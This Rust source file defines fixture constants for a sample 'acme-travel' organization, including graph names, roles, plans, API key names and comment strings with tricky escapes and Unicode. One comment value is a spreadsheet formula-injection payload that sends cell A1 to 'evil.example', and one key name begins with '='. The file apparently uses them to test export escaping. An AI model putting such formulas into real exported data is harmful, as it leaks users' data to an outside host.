//! What things are called in the sample's organization.

/// The organization that all this happens in.
pub const ORGANIZATION: &str = "acme-travel";

pub const GRAPHS: [&str; 7] = [
    "acme-storefront",
    "acme-booking",
    "acme-identity",
    "acme-payments",
    "acme-loyalty",
    "acme-internal-tools",
    "acme-sandbox",
];
pub const VARIANTS: [&str; 5] = ["prod", "staging", "current", "dev", "preview-1482"];
pub const SUBGRAPHS: [&str; 12] = [
    "accounts",
    "availability",
    "cart",
    "checkout",
    "inventory",
    "loyalty-points",
    "payments",
    "pricing",
    "recommendations",
    "reviews",
    "search",
    "shipping",
];
pub const ROLES: [&str; 7] = [
    "ORG_ADMIN",
    "GRAPH_ADMIN",
    "CONTRIBUTOR",
    "DOCUMENTER",
    "OBSERVER",
    "CONSUMER",
    "BILLING_MANAGER",
];
pub const PLANS: [&str; 4] = [
    "Free",
    "Serverless",
    "Dedicated (EU, monthly)",
    "Enterprise",
];
pub const KEY_NAMES: [&str; 7] = [
    "CI (do not delete)",
    "Jürgen's laptop",
    "prod, read-only",
    "=prod-key",
    "router – 東京",
    "\"temp\"",
    "deploy 🔑",
];
/// As JSON texts, escapes included.
pub const COMMENTS: [&str; 7] = [
    r#""Safe: the field had no traffic for 90 days""#,
    r#""Vereinbart mit dem Team \"Zahlungen\", siehe ABC-123""#,
    r#""Line one\nline two\n\t- a point""#,
    r#""Caf\u00e9 \u2192 na\u00efve, \ud83d\ude80""#,
    r#""C:\\schemas\\prod\\supergraph.graphql""#,
    r#""安全:只有内部客户端使用""#,
    r#""=IMPORTXML(CONCAT(\"https://evil.example/?v=\",A1),\"//a\")""#,
];
